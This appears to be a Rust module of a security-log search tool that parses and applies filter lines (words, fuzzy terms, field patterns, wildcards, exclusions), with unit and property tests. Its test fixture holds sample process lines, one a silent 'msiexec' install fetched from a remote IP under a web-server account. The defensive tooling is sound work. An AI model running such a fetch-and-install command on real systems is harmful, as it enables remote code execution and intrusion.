//! The filter line: which rows stay. The only file that names `fuzzy_matcher`.
//!
//! Terms are split at blanks and all required. `word` stands anywhere in the row, case aside;
//! `"two words"` quotes (a quote inside is written twice, a backslash is itself, as Windows paths
//! need it); `~word` is fuzzy; `field:value` looks in one field, `field:"value"` is its whole
//! value; `*` in a field's value is any run of characters, and the value then is the whole one;
//! `-` before a term excludes. A name before the colon that is no field is part of a word, so that
//! `http://…` and `C:\…` can be typed as they are.

use super::fields::Rows;
use crate::event::SourceId;
use crate::store::Column;
use fuzzy_matcher::FuzzyMatcher;
use fuzzy_matcher::skim::SkimMatcherV2;

/// How far apart the letters of a fuzzy word may stand, as a multiple of its length. As a mere
/// subsequence "teams" is in 1,416 of 1,930 real process creations of which none holds it.
const FUZZY_SPREAD: usize = 2;

/// A parsed filter line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Filter {
    terms: Vec<Term>,
}

/// One condition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Term {
    /// As typed.
    text: String,
    exclude: bool,
    test: Test,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Test {
    /// Lower-cased.
    Word(String),
    Fuzzy(Vec<String>),
    Field(String, Pattern),
}

/// What a field's value must be like; all lower-cased.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Pattern {
    Holds(String),
    Whole(String),
    Wild(String),
}

impl Term {
    /// A term that keeps, or with `exclude` drops, the rows with that whole value in a field.
    pub fn of_value(field: &str, value: &str, exclude: bool) -> Self {
        let sign = if exclude { "-" } else { "" };
        Self {
            text: format!("{sign}{field}:\"{}\"", value.replace('"', "\"\"")),
            exclude,
            test: Test::Field(field.to_owned(), Pattern::Whole(value.to_lowercase())),
        }
    }

    /// As it stands on the filter line.
    pub fn text(&self) -> &str {
        &self.text
    }

    fn parse(text: String, rows: Rows<'_>) -> Option<Self> {
        let (exclude, body) = match text.strip_prefix('-') {
            Some(rest) => (true, rest),
            None => (false, text.as_str()),
        };
        let condition = if let Some(word) = body.strip_prefix('~') {
            let parts = unquote(word).0.to_lowercase();
            let parts: Vec<String> = parts.split_whitespace().map(str::to_owned).collect();
            (!parts.is_empty()).then_some(Test::Fuzzy(parts))
        } else if let Some((field, value)) = field_of(body, rows) {
            let (value, quoted) = unquote(value);
            let value = value.to_lowercase();
            // `user:` while it is being typed asks for nothing yet.
            (quoted || !value.is_empty()).then(|| Test::Field(field, pattern(value, quoted)))
        } else {
            let word = unquote(body).0.to_lowercase();
            (!word.is_empty()).then_some(Test::Word(word))
        }?;
        Some(Self {
            exclude,
            test: condition,
            text,
        })
    }

    /// Which rows it finds, whether it keeps or drops them.
    fn found(&self, rows: Rows<'_>, fuzzy: &SkimMatcherV2) -> Vec<bool> {
        match &self.test {
            Test::Word(word) => anywhere(
                rows,
                |column, _| column.holding(word),
                |name| name.contains(word.as_str()),
            ),
            Test::Fuzzy(parts) => {
                let mut all = vec![true; rows.findings.findings.len()];
                for part in parts {
                    let close = |text: &str| is_close(fuzzy, text, part);
                    let open = |column: &Column, found: &[bool]| column.open(found);
                    let found = anywhere(
                        rows,
                        |column, found| column.passing(&open(column, found), close),
                        close,
                    );
                    all.iter_mut().zip(found).for_each(|(all, one)| *all &= one);
                }
                all
            }
            Test::Field(field, pattern) => in_field(rows, field, pattern),
        }
    }
}

/// The rows that are found in any of their values, by the test of a column and of a file's name.
fn anywhere(
    rows: Rows<'_>,
    in_column: impl Fn(&Column, &[bool]) -> Vec<bool>,
    in_name: impl Fn(&str) -> bool,
) -> Vec<bool> {
    let mut found = in_names(rows, in_name);
    for column in rows.findings.index().texts() {
        if found.iter().all(|found| *found) {
            break;
        }
        let values = in_column(column, &found);
        column.ids.mark(&values, &mut found);
    }
    found
}

fn in_names(rows: Rows<'_>, test: impl Fn(&str) -> bool) -> Vec<bool> {
    let mut found = vec![false; rows.findings.findings.len()];
    let (ids, files) = rows.findings.index().files();
    let name = |file: &SourceId| rows.sources.get(file.0 as usize);
    let passes = |file: &SourceId| name(file).is_some_and(|name| test(&name.to_lowercase()));
    let names: Vec<bool> = files.iter().map(passes).collect();
    ids.mark(&names, &mut found);
    found
}

fn in_field(rows: Rows<'_>, field: &str, pattern: &Pattern) -> Vec<bool> {
    if field == "file" {
        return in_names(rows, |name| pattern.fits(name));
    }
    let mut found = vec![false; rows.findings.findings.len()];
    let Some(column) = rows.findings.index().column(field) else {
        return found;
    };
    let all = vec![true; column.len()];
    let values = match pattern {
        // A role is `package` or `property SERVER`: its first word is enough.
        _ if field == "role" => column.passing(&all, |role| {
            pattern.fits(role)
                || role
                    .split(' ')
                    .next()
                    .is_some_and(|word| pattern.fits(word))
        }),
        Pattern::Holds(part) => column.holding(part),
        _ => column.passing(&all, |value| pattern.fits(value)),
    };
    column.ids.mark(&values, &mut found);
    found
}

/// The letters of a word in their order and close together. Line by line, and judged on the part
/// of the line that they stand in alone: looked for in whole lines, most words are in most.
fn is_close(fuzzy: &SkimMatcherV2, text: &str, word: &str) -> bool {
    let letters: Vec<char> = word.chars().collect();
    let close = |line: &str| {
        window(line, &letters).is_some_and(|part| fuzzy.fuzzy_match(part, word).is_some())
    };
    text.contains(word) || text.lines().any(close)
}

/// The first part of a line that begins with the first letter, ends with the last, has the others
/// between in their order, and is not too long.
fn window<'a>(line: &'a str, letters: &[char]) -> Option<&'a str> {
    let (first, rest) = letters.split_first()?;
    let starts = line.char_indices().filter(|(_, c)| c == first);
    let part = |(from, _): (usize, char)| {
        let behind = line.get(from..)?;
        let near = behind.char_indices().take(FUZZY_SPREAD * letters.len());
        let mut wanted = rest.iter();
        let mut next = wanted.next();
        for (at, c) in near.skip(1) {
            if next == Some(&c) {
                next = wanted.next();
            }
            if next.is_none() {
                return behind.get(..at + c.len_utf8());
            }
        }
        None
    };
    starts.into_iter().find_map(part)
}

fn field_of<'a>(body: &'a str, rows: Rows<'_>) -> Option<(String, &'a str)> {
    let (name, value) = body.split_once(':')?;
    Some((rows.field(name)?, value))
}

fn pattern(value: String, quoted: bool) -> Pattern {
    if quoted {
        Pattern::Whole(value)
    } else if value.contains('*') {
        Pattern::Wild(value)
    } else {
        Pattern::Holds(value)
    }
}

/// Without its quotes, and whether it had any. A quote that is not closed yet counts as closed.
fn unquote(text: &str) -> (String, bool) {
    let Some(inner) = text.strip_prefix('"') else {
        return (text.to_owned(), false);
    };
    let closed = inner.len() - inner.trim_end_matches('"').len();
    let inner = if closed % 2 == 1 {
        inner.strip_suffix('"').unwrap_or(inner)
    } else {
        inner
    };
    (inner.replace("\"\"", "\""), true)
}

impl Pattern {
    fn fits(&self, value: &str) -> bool {
        match self {
            Self::Holds(part) => value.contains(part.as_str()),
            Self::Whole(whole) => value == whole,
            Self::Wild(wild) => wild_fits(wild.as_bytes(), value.as_bytes()),
        }
    }
}

/// `*` is any run of characters. Keeps only the last star to go back to, so it takes at most
/// length times length steps. Bytes will do: in UTF-8 no character stands inside of another.
fn wild_fits(pattern: &[u8], value: &[u8]) -> bool {
    let (mut p, mut v, mut star) = (0, 0, None);
    while v < value.len() {
        match pattern.get(p) {
            Some(b'*') => {
                star = Some((p, v));
                p += 1;
            }
            Some(c) if value.get(v) == Some(c) => {
                p += 1;
                v += 1;
            }
            _ => match star {
                Some((at, from)) => {
                    p = at + 1;
                    v = from + 1;
                    star = Some((at, v));
                }
                None => return false,
            },
        }
    }
    pattern.iter().skip(p).all(|c| *c == b'*')
}

impl Filter {
    /// Reads a filter line. Every text is one: what is half typed asks for less.
    pub fn parse(text: &str, rows: Rows<'_>) -> Self {
        let terms = split(text).into_iter();
        Self {
            terms: terms.filter_map(|term| Term::parse(term, rows)).collect(),
        }
    }

    /// The line that reads as this filter.
    pub fn text(&self) -> String {
        let texts: Vec<&str> = self.terms.iter().map(Term::text).collect();
        texts.join(" ")
    }

    /// Whether every row stays.
    pub fn is_empty(&self) -> bool {
        self.terms.is_empty()
    }

    /// The conditions.
    pub fn terms(&self) -> &[Term] {
        &self.terms
    }

    /// Adds a condition, or removes it when it is there already.
    pub fn toggle(&mut self, term: Term) {
        let before = self.terms.len();
        self.terms.retain(|t| t.text != term.text);
        if self.terms.len() == before {
            self.terms.push(term);
        }
    }

    /// Removes the last condition.
    pub fn pop(&mut self) -> Option<Term> {
        self.terms.pop()
    }

    /// The rows that stay, in their order.
    pub fn keep(&self, rows: Rows<'_>) -> Vec<usize> {
        let fuzzy = SkimMatcherV2::default().ignore_case();
        let mut stay = vec![true; rows.findings.findings.len()];
        for term in &self.terms {
            let found = term.found(rows, &fuzzy);
            for (stay, found) in stay.iter_mut().zip(found) {
                *stay &= found != term.exclude;
            }
        }
        let rows = stay.into_iter().enumerate();
        rows.filter_map(|(row, stays)| stays.then_some(row))
            .collect()
    }
}

/// Cuts at blanks outside of quotes. A quote opens only where a value begins, so that an inch
/// sign or an apostrophe inside a word is itself.
fn split(text: &str) -> Vec<String> {
    let mut terms = Vec::new();
    let mut term = String::new();
    let mut quoted = false;
    for c in text.chars() {
        let begins = term.is_empty() || term.ends_with([':', '-', '~']);
        match c {
            '"' if !quoted && begins => {
                quoted = true;
                term.push(c);
            }
            '"' if quoted => {
                term.push(c);
                // A doubled quote closes and opens again; both marks stay in the text.
                quoted = false;
            }
            '"' if term.ends_with('"') => {
                quoted = true;
                term.push(c);
            }
            c if c.is_whitespace() && !quoted => {
                if !term.is_empty() {
                    terms.push(std::mem::take(&mut term));
                }
            }
            c => term.push(c),
        }
    }
    if !term.is_empty() {
        terms.push(term);
    }
    terms
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Value;
    use crate::search::{Row, Table};
    use crate::store::Findings;
    use proptest::prelude::*;

    fn findings(rows: &[[&str; 3]]) -> Findings {
        let table = Table {
            columns: ["user", "dest", "process"].map(Into::into).to_vec(),
            rows: rows
                .iter()
                .map(|cells| Row {
                    cells: cells.map(|c| Some(Value::text(c))).to_vec(),
                    events: vec![],
                })
                .collect(),
        };
        Findings::new(table, vec![])
    }

    fn kept(filter: &str, findings: &Findings) -> Vec<usize> {
        let rows = Rows {
            findings,
            sources: &[],
        };
        Filter::parse(filter, rows).keep(rows)
    }

    fn sample() -> Findings {
        findings(&[
            [
                "iis-app",
                "web-02.corp.example",
                r"msiexec /q /i http://203.0.113.9/nv.msi",
            ],
            [
                "SYSTEM",
                "ws-017",
                r#""C:\Program Files\x" /i https://a.example/b.msi"#,
            ],
            ["iis", "web-03", "msiexec SERVER=https://c.example"],
        ])
    }

    #[test]
    fn the_grammar() {
        let sample = sample();
        for (filter, rows) in [
            ("", &[0, 1, 2][..]),
            ("   ", &[0, 1, 2]),
            ("MSIEXEC", &[0, 2]),
            ("msiexec nv", &[0]),
            ("-msiexec", &[1]),
            ("http://", &[0]),
            (r"C:\Program", &[1]),
            ("\"program files\"", &[1]),
            ("\"program files", &[1]),
            ("user:iis", &[0, 2]),
            ("user:\"iis\"", &[2]),
            ("user:iis*", &[0, 2]),
            ("user:*app", &[0]),
            ("user:", &[0, 1, 2]),
            ("host:web -user:iis-app", &[2]),
            ("dest:*.corp.*", &[0]),
            ("-host:*", &[]),
            ("~msixec", &[0, 2]),
            ("~pgfiles", &[1]),
            ("~teams", &[]),
            ("~", &[0, 1, 2]),
            ("-", &[0, 1, 2]),
            ("server=https", &[2]),
            ("command_line:*nv.msi", &[0]),
        ] {
            assert_eq!(kept(filter, &sample), rows, "{filter}");
        }
    }

    #[test]
    fn a_term_that_is_set_again_goes() {
        let sample = sample();
        let rows = Rows {
            findings: &sample,
            sources: &[],
        };
        let mut filter = Filter::parse("msi", rows);
        filter.toggle(Term::of_value("user", "iis-app", false));
        assert_eq!(filter.text(), "msi user:\"iis-app\"");
        filter.toggle(Term::of_value("user", "iis-app", false));
        assert_eq!(filter.text(), "msi");
        assert!(filter.pop().is_some() && filter.is_empty());
    }

    proptest! {
        #[test]
        fn a_value_is_found_again_by_its_own_term(value in r#"[a"\\ :*~-]{0,8}"#, exclude: bool) {
            let findings = findings(&[[&value, "d", "p"], ["another", "d", "p"]]);
            let term = Term::of_value("user", &value, exclude);
            let rows = kept(term.text(), &findings);
            prop_assert_eq!(rows, vec![usize::from(exclude)]);
        }

        #[test]
        fn any_text_is_a_filter(text in "\\PC{0,30}") {
            kept(&text, &sample());
        }

        #[test]
        fn a_parsed_line_reads_as_itself(text in r#"[ab" :*~-]{0,16}"#) {
            let sample = sample();
            let rows = Rows { findings: &sample, sources: &[] };
            let filter = Filter::parse(&text, rows);
            prop_assert_eq!(&Filter::parse(&filter.text(), rows), &filter);
        }
    }
}
